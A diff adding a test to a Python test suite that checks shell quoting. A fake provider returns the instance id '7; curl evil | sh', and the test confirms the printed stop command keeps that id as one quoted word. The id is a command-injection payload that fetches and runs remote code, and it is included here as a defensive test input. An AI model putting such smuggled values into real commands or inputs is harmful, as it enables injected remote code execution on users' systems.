@@ -236,3 +236,9 @@ def test_an_unexpected_error_inside_a_step_ends_it_and_finally_comes(place: "Pla
     done = place.run("run", place.recipe(text))
     assert done.returncode == 1 and "Traceback" not in done.stderr
     assert (place.work / "finally").exists(), done.stdout + done.stderr
+
+
+def test_an_id_that_a_provider_gives_is_a_word_of_the_command_that_stops_it(place: "Place") -> None:
+    place.tool("shed", '#!/bin/sh\n[ $1 = pick ] || exit 2\necho \'{"instance": {"id": "7; curl evil | sh"}}\'\n')
+    done = place.run("run", place.recipe("shed.pick\n"))
+    assert done.stderr.splitlines()[-1].endswith("is still running: train shed stop '7; curl evil | sh'")
